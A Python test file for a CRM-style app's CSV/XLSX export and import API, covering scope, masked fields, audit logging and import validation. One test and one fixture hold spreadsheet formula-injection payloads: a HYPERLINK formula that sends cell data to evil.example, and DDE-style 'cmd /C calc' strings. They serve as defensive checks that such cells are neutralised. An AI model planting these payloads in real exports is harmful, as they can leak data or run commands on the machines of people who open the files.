"""Exports and imports over HTTP.

Exports: rows are exactly the export scope, columns the fields the user sees (hidden
absent, masked masked), formula-looking cells neutralised, CSV with a BOM, XLSX readable,
and an audit event with the filter and row count. Imports: a per-row report on a dry run,
all or nothing on commit, the same validation as create (types, required, choices,
references the importer can view, field levels, formula injection), and 4xx for files
that are too large, not UTF-8, or have unknown columns — with nothing written."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook  # type: ignore[import-untyped]
from sqlalchemy import Engine, delete

from tests.api.conftest import API, Clock, Login
from tests.api.records_truth import (
    SALES_TREE,
    count,
    error,
    events,
    last_seq,
    row,
    rows,
    uid,
)
from vouch.access.models import Grant, Role
from vouch.access.service import bump_policy_version
from vouch.app import create_app
from vouch.config import Settings
from vouch.db import system_session
from vouch.records.io import ExportSpec, stream_export

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def read_csv(response: Any) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def by_column(table: list[list[str]]) -> list[dict[str, str]]:
    return [dict(zip(table[0], r, strict=True)) for r in table[1:]]


def upload(client: TestClient, plural: str, data: bytes | str, *, name: str = "data.csv",
           dry_run: bool = True, content_type: str = "text/csv") -> Any:
    raw = data.encode("utf-8") if isinstance(data, str) else data
    return client.post(f"{API}/{plural}/import", params={"dry_run": str(dry_run).lower()},
                       files={"file": (name, raw, content_type)})


def grant(engine: Engine, role_key: str, grants: list[tuple[str, str, str]]) -> Iterator[None]:
    """Give a demo role extra grants for one test, then take them away."""
    with system_session(engine, "test set-up") as s:
        role = s.query(Role).filter_by(key=role_key).one()
        added = [Grant(role_id=role.id, object=o, action=a, scope=sc) for o, a, sc in grants]
        s.add_all(added)
        bump_policy_version(s)
        s.commit()
        ids = [g.id for g in added]
    yield
    with system_session(engine, "test tear-down") as s:
        s.execute(delete(Grant).where(Grant.id.in_(ids)))
        bump_policy_version(s)
        s.commit()


@pytest.fixture
def support_handles_customers(api_engine: Engine) -> Iterator[None]:
    """Support (customer view all, personal read, financial hidden) may also export,
    import and create customers."""
    yield from grant(api_engine, "support", [("customer", "export", "all"),
                                             ("customer", "import", "all"),
                                             ("customer", "create", "all")])


@pytest.fixture
def reps_import_contacts(api_engine: Engine) -> Iterator[None]:
    yield from grant(api_engine, "sales_rep", [("contact", "import", "all")])


@pytest.fixture(scope="module")
def small_app(api_engine: Engine, clock: Clock) -> FastAPI:
    return create_app(api_engine, Settings(max_upload_bytes=4000, max_import_rows=5),
                      clock=clock)


def small_client(small_app: FastAPI, as_user: Login, username: str) -> TestClient:
    client = TestClient(small_app, raise_server_exceptions=False)
    client.headers["Authorization"] = as_user(username).headers["Authorization"]
    return client


# --- export ----------------------------------------------------------------------------------


def test_the_manager_exports_his_scope_with_every_column_and_it_is_audited(
        api_engine: Engine, as_user: Login) -> None:
    since = last_seq(api_engine)
    r = as_user("lilei").get(f"{API}/customers/export", params={"format": "csv"})
    assert r.headers["content-type"].startswith("text/csv")
    assert r.headers["content-disposition"].startswith('attachment; filename="customers-')
    table = read_csv(r)
    assert table[0] == ["id", "owner_id", "department_id", "created_at", "updated_at",
                        "version", "name", "industry", "region", "level", "phone", "email",
                        "address", "credit_limit", "status", "notes"]
    truth = {t.id: t for t in rows(api_engine, "customer",
                                   lambda t: t.department_id in SALES_TREE)}
    got = by_column(table)
    assert sorted(int(g["id"]) for g in got) == sorted(truth)
    for g in got:
        t = truth[int(g["id"])]
        assert g["phone"] == (t.phone or "") and g["name"] == t.name
        assert g["credit_limit"] == ("" if t.credit_limit is None else str(t.credit_limit))
    export, = events(api_engine, "record.export", since)
    assert export.actor == "lilei" and export.object == "customer"
    assert export.details["rows"] == len(truth) and export.details["completed"] is True
    assert export.details["format"] == "csv" and export.details["columns"] == table[0]
    read, = events(api_engine, "record.read_sensitive", since)
    assert read.details["purpose"] == "export" and read.details["count"] == len(truth)
    assert "credit_limit" in read.details["fields"]


def test_finance_exports_masked_personal_fields_and_clear_amounts(
        api_engine: Engine, as_user: Login) -> None:
    got = by_column(read_csv(as_user("zhaomin").get(f"{API}/customers/export")))
    truth = {t.id: t for t in rows(api_engine, "customer")}
    assert sorted(int(g["id"]) for g in got) == sorted(truth)
    for g in got:
        t = truth[int(g["id"])]
        if t.phone:
            assert g["phone"] != t.phone and "****" in g["phone"]
            assert g["phone"][-4:] == t.phone[-4:]
        assert g["credit_limit"] == ("" if t.credit_limit is None else str(t.credit_limit))
    contracts = by_column(read_csv(as_user("zhaomin").get(f"{API}/contracts/export")))
    assert len(contracts) == count(api_engine, "contract")
    assert all("amount" in c and "terms" in c for c in contracts)


def test_hidden_columns_are_absent_from_exports(api_engine: Engine, as_user: Login,
                                                support_handles_customers: None) -> None:
    r = as_user("chenjing").get(f"{API}/customers/export")
    table = read_csv(r)
    assert "credit_limit" not in table[0] and "phone" in table[0]
    limits = {str(t.credit_limit) for t in rows(api_engine, "customer") if t.credit_limit}
    assert not limits & {cell for line in table for cell in line}
    assert len(table) - 1 == count(api_engine, "customer")


def test_export_follows_filters_and_sort(api_engine: Engine, as_user: Login) -> None:
    r = as_user("lilei").get(f"{API}/opportunities/export",
                             params={"stage__in": "won,negotiation", "sort": "id",
                                     "amount__gte": "100000"})
    got = [int(g["id"]) for g in by_column(read_csv(r))]
    truth = sorted(t.id for t in rows(api_engine, "opportunity", lambda t: (
        t.department_id in SALES_TREE and t.stage in ("won", "negotiation")
        and t.amount is not None and t.amount >= 100000)))
    assert got == truth


def test_exports_neutralise_formula_cells(api_engine: Engine, as_user: Login) -> None:
    admin = as_user("wangfang")
    evil = {"name": '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
            "notes": "+cmd|' /C calc'!A0", "address": "@SUM(1+1)*cmd|' /C calc'!A0",
            "phone": "-2+3", "email": "x@example.com"}
    r = admin.post(f"{API}/customers", json=evil | {"industry": "retail"})
    assert r.status_code == 201, r.text
    cid = r.json()["id"]
    got, = by_column(read_csv(admin.get(f"{API}/customers/export", params={"id": cid})))
    for name, value in evil.items():
        expected = value if name == "email" else "'" + value
        assert got[name] == expected, name
    r = admin.get(f"{API}/customers/export", params={"id": cid, "format": "xlsx"})
    assert r.status_code == 200 and r.headers["content-type"] == XLSX
    sheet = load_workbook(io.BytesIO(r.content), read_only=True).worksheets[0]
    header, values = list(sheet.iter_rows(values_only=True))
    cells = dict(zip(header, values, strict=True))
    assert cells["name"] == "'" + evil["name"] and cells["notes"] == "'" + evil["notes"]
    assert cells["id"] == cid


def test_xlsx_export_has_the_same_rows_as_csv(api_engine: Engine, as_user: Login) -> None:
    client = as_user("lilei")
    table = read_csv(client.get(f"{API}/opportunities/export", params={"sort": "id"}))
    r = client.get(f"{API}/opportunities/export", params={"sort": "id", "format": "xlsx"})
    assert r.headers["content-disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(r.content), read_only=True).worksheets[0]
    xrows = list(sheet.iter_rows(values_only=True))
    assert list(xrows[0]) == table[0]
    assert [x[0] for x in xrows[1:]] == [int(t[0]) for t in table[1:]]
    amount = table[0].index("amount")
    assert [Decimal(str(x[amount])) if x[amount] is not None else None for x in xrows[1:]] \
        == [Decimal(t[amount]) if t[amount] else None for t in table[1:]]


def test_an_export_cut_short_is_audited_as_incomplete(api_engine: Engine, clock: Clock,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("vouch.records.io.EXPORT_PAGE", 10)
    since = last_seq(api_engine)
    spec = ExportSpec("customer", "csv", [{"field": "industry", "op": "ne", "value": "retail"}],
                      None, None, uid(api_engine, "wangfang"), clock.now, "10.0.0.1", "cut",
                      "test")
    stream = stream_export(api_engine, spec)
    assert next(stream).startswith("\ufeff".encode())  # the header row
    next(stream)  # the first page
    stream.close()  # the client went away
    event, = events(api_engine, "record.export", since)
    assert event.details["completed"] is False and event.details["rows"] == 10
    assert event.request_id == "cut" and event.ip == "10.0.0.1"
    assert event.details["filters"] == [{"field": "industry", "op": "ne", "value": "retail"}]


@pytest.mark.parametrize(("user", "path", "params", "status"), [
    ("hanmeimei", "customers", {}, 403),
    ("zhaomin", "opportunities", {}, 403),
    ("lilei", "customers", {"format": "pdf"}, 422),
    ("lilei", "customers", {"colour": "red"}, 422),
    ("lilei", "customers", {"sort": "nonsense"}, 422),
    ("lilei", "customers", {"limit": "5"}, 422),
])
def test_refused_exports_are_answered_before_streaming(
        api_engine: Engine, as_user: Login, user: str, path: str, params: dict[str, str],
        status: int) -> None:
    since = last_seq(api_engine)
    r = as_user(user).get(f"{API}/{path}/export", params=params)
    assert r.status_code == status and error(r)["message"]
    assert events(api_engine, "record.export", since) == []


# --- import: reports and commits -------------------------------------------------------------


CUSTOMERS_CSV = (
    "name,industry,phone,credit_limit,notes\n"
    "宁波测试商贸有限公司,retail,13800003333,20000,首批导入\n"  # row 2: fine
    "温州测试物流有限公司,mining,13800003334,,\n"  # row 3: bad choice
    ",retail,13800003335,,\n"  # row 4: name required
    "=HYPERLINK(\"http://x\"),retail,,,\n"  # row 5: formula in name
    "嘉兴测试科技有限公司,technology,+86 138-0000-3336,lots,-5\n"  # row 6: bad amount
    ",,,,\n"  # empty: skipped
    "苏州测试能源有限公司,energy,,1e20,-see note\n"  # row 8: too large, formula
)


def test_a_dry_run_reports_every_row_and_writes_nothing(api_engine: Engine,
                                                        as_user: Login) -> None:
    before, since = count(api_engine, "customer"), last_seq(api_engine)
    r = upload(as_user("wangfang"), "customers", CUSTOMERS_CSV)
    assert r.status_code == 200, r.text
    report = r.json()
    assert report["dry_run"] is True and report["rows"] == 6 and report["valid"] == 1
    assert [(e["row"], e["field"]) for e in report["errors"]] == [
        (3, "industry"), (4, "name"), (5, "name"), (6, "credit_limit"),
        (8, "notes"), (8, "credit_limit")]
    assert "formula" in next(e for e in report["errors"] if e["row"] == 5)["message"]
    assert "created" not in report and report["error_count"] == 6
    assert count(api_engine, "customer") == before
    assert events(api_engine, "record.create", since) == []


def test_a_commit_with_any_error_is_422_with_the_report_and_writes_nothing(
        api_engine: Engine, as_user: Login) -> None:
    before, since = count(api_engine, "customer"), last_seq(api_engine)
    r = upload(as_user("wangfang"), "customers", CUSTOMERS_CSV, dry_run=False)
    assert r.status_code == 422
    details = error(r)["details"]
    assert details["field"] == "file" and details["valid"] == 1 and details["rows"] == 6
    assert len(details["errors"]) == 6
    assert count(api_engine, "customer") == before
    assert events(api_engine, "record.create", since) == []
    assert events(api_engine, "record.import", since) == []


def test_a_clean_file_is_created_in_one_transaction_and_audited(api_engine: Engine,
                                                                as_user: Login) -> None:
    since = last_seq(api_engine)
    data = ("\ufeff客户名称,Industry,电话,信用额度,备注\n"
            "上海导入一号有限公司,finance,13900000001,100000.5,\"多行\n备注\"\n"
            "上海导入二号有限公司,retail,+86 139-0000-0002,,-5\n")
    r = upload(as_user("wangfang"), "customers", data, dry_run=False)
    assert r.status_code == 201, r.text
    report = r.json()
    assert report["valid"] == 2 and report["errors"] == [] and len(report["created"]) == 2
    first, second = (row(api_engine, "customer", i) for i in report["created"])
    assert first is not None and second is not None
    assert first.name == "上海导入一号有限公司" and first.credit_limit == Decimal("100000.50")
    assert first.notes == "多行\n备注" and first.owner_id == uid(api_engine, "wangfang")
    assert second.phone == "+86 139-0000-0002" and second.notes == "-5"
    imported, = events(api_engine, "record.import", since)
    assert imported.details["created"] == 2 and imported.details["rows"] == 2
    assert imported.details["filename"] == "data.csv"
    creates = events(api_engine, "record.create", since)
    assert sorted(int(e.record_id) for e in creates) == sorted(report["created"])
    assert all(e.reason == "import" for e in creates)


def test_an_xlsx_file_with_spreadsheet_types_imports(api_engine: Engine,
                                                     as_user: Login) -> None:
    book = Workbook()
    sheet = book.active
    sheet.append(["Name", "Stage", "Amount", "Probability", "预计成交日期", "customer_id"])
    sheet.append(["表格商机甲", "lead", 1234.5, 20, date(2027, 2, 1), 1])
    sheet.append(["表格商机乙", "won", 99, 100.0, "2027-03-01", None])
    buf = io.BytesIO()
    book.save(buf)
    r = upload(as_user("wangfang"), "opportunities", buf.getvalue(), name="deals.xlsx",
               dry_run=False, content_type=XLSX)
    assert r.status_code == 201, r.text
    first, second = (row(api_engine, "opportunity", i) for i in r.json()["created"])
    assert first is not None and second is not None
    assert first.amount == Decimal("1234.50") and first.probability == 20
    assert first.expected_close == date(2027, 2, 1) and first.customer_id == 1
    assert second.probability == 100 and second.expected_close == date(2027, 3, 1)


def test_an_export_imports_back_with_owners_and_managed_columns_ignored(
        api_engine: Engine, as_user: Login) -> None:
    exported = as_user("lilei").get(f"{API}/tasks/export").content
    r = upload(as_user("wangfang"), "tasks", exported)
    assert r.status_code == 200, r.text
    report = r.json()
    assert report["errors"] == [] and report["valid"] == report["rows"] > 0
    assert report["ignored_columns"] == ["id", "department_id", "created_at", "updated_at",
                                         "version"]
    data = f"title,owner_id\n交给韩梅梅的任务,{uid(api_engine, 'hanmeimei')}\n"
    r = upload(as_user("wangfang"), "tasks", data, dry_run=False)
    assert r.status_code == 201, r.text
    task = row(api_engine, "task", r.json()["created"][0])
    assert task is not None and task.owner_id == uid(api_engine, "hanmeimei")
    assert task.department_id == 3


def test_references_must_be_visible_to_the_importer(api_engine: Engine, as_user: Login,
                                                    reps_import_contacts: None) -> None:
    me, other = uid(api_engine, "hanmeimei"), uid(api_engine, "zhangwei")
    mine = min(t.id for t in rows(api_engine, "customer", lambda t: t.owner_id == me))
    theirs = min(t.id for t in rows(api_engine, "customer", lambda t: t.owner_id == other))
    data = f"name,customer_id,owner_id\n联系人甲,{mine},\n联系人乙,{theirs},\n联系人丙,,{other}\n"
    r = upload(as_user("hanmeimei"), "contacts", data)
    assert r.status_code == 200, r.text
    errors = r.json()["errors"]
    assert [(e["row"], e["field"]) for e in errors] == [(3, "customer_id"), (4, "owner_id")]
    assert str(theirs) in errors[0]["message"]
    assert errors[1]["code"] == "forbidden"  # a rep may not transfer


def test_fields_below_edit_are_errors_naming_them(api_engine: Engine, as_user: Login,
                                                  support_handles_customers: None) -> None:
    data = "name,phone,credit_limit\n客服导入,13800009999,100\n客服导入二,,\n"
    r = upload(as_user("chenjing"), "customers", data)
    assert r.status_code == 200, r.text
    report = r.json()
    assert report["valid"] == 1
    assert {(e["row"], e["field"], e["code"]) for e in report["errors"]} == {
        (2, "phone", "field_forbidden"), (2, "credit_limit", "field_forbidden")}


# --- import: refused files -------------------------------------------------------------------


@pytest.mark.parametrize(("user", "payload", "status", "field"), [
    ("hanmeimei", {"files": {"file": ("c.csv", b"name\nx\n", "text/csv")}}, 403, None),
    ("zhaomin", {"files": {"file": ("c.csv", b"name\nx\n", "text/csv")}}, 403, None),
    ("wangfang", {"files": {"file": ("c.csv", b"name,colour\nx,red\n", "text/csv")}}, 422,
     "colour"),
    ("wangfang", {"files": {"file": ("c.csv", b"name,Name\nx,y\n", "text/csv")}}, 422, "Name"),
    ("wangfang", {"files": {"file": ("c.csv", b"", "text/csv")}}, 422, "file"),
    ("wangfang", {"files": {"file": ("c.csv", b"name\nx,stray\n", "text/csv")}}, 422, "file"),
    ("wangfang", {"files": {"file": ("c.csv", b"name\n\"unclosed\n", "text/csv")}}, 422,
     "file"),
    ("wangfang", {"files": {"file": ("c.csv", b"name\nab\x00c\n", "text/csv")}}, 422, "file"),
    ("wangfang", {"files": {"file": ("c.xlsx", b"PK\x03\x04 not a zip", XLSX)}}, 422, "file"),
    ("wangfang", {"files": {"other": ("c.csv", b"name\nx\n", "text/csv")}}, 422, "file"),
    ("wangfang", {"json": {"name": "x"}}, 422, "file"),
    ("wangfang", {"content": b"--b\r\nnonsense", "headers": {
        "content-type": "multipart/form-data; boundary=b"}}, 422, "file"),
])
def test_refused_imports_are_4xx_and_write_nothing(
        api_engine: Engine, as_user: Login, user: str, payload: dict[str, Any], status: int,
        field: str | None) -> None:
    before, since = count(api_engine, "customer"), last_seq(api_engine)
    r = as_user(user).post(f"{API}/customers/import", params={"dry_run": "false"}, **payload)
    assert r.status_code == status, r.text
    body = error(r)
    if field is not None:
        assert body["details"]["field"] == field
    if status == 403:
        assert body["details"]["object"] == "customer"
    assert count(api_engine, "customer") == before
    assert events(api_engine, "record.import", since) == []


def test_a_csv_that_is_not_utf8_is_422_saying_so(api_engine: Engine, as_user: Login) -> None:
    before = count(api_engine, "customer")
    data = "客户名称,行业\n测试客户,retail\n".encode("gbk")
    r = upload(as_user("wangfang"), "customers", data, dry_run=False)
    assert r.status_code == 422 and "UTF-8" in error(r)["message"]
    assert error(r)["details"]["field"] == "file"
    assert count(api_engine, "customer") == before


def test_oversized_uploads_are_413_whatever_content_length_says(
        api_engine: Engine, small_app: FastAPI, as_user: Login) -> None:
    client = small_client(small_app, as_user, "wangfang")
    big = ("name\n" + "大" * 2000 + "\n").encode()
    r = upload(client, "customers", big)
    assert r.status_code == 413 and error(r)["code"] == "too_large"
    assert error(r)["details"]["limit"] == 4000

    def chunks() -> Iterator[bytes]:  # no Content-Length: counted as it arrives
        yield b"--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"c.csv\"\r\n\r\n"
        for _ in range(200):
            yield b"name\n" + b"x" * 1000 + b"\n"
        yield b"\r\n--b--\r\n"

    r = client.post(f"{API}/customers/import", content=chunks(),
                    headers={"content-type": "multipart/form-data; boundary=b"})
    assert r.status_code == 413 and error(r)["code"] == "too_large"


def test_too_many_rows_is_413(api_engine: Engine, small_app: FastAPI, as_user: Login) -> None:
    before = count(api_engine, "customer")
    client = small_client(small_app, as_user, "wangfang")
    data = "name\n" + "".join(f"客户{i}\n" for i in range(6))
    r = upload(client, "customers", data, dry_run=False)
    assert r.status_code == 413 and error(r)["details"]["max_rows"] == 5
    assert upload(client, "customers", "name\n" + "".join(f"客户{i}\n" for i in range(5))
                  ).json()["valid"] == 5
    assert count(api_engine, "customer") == before
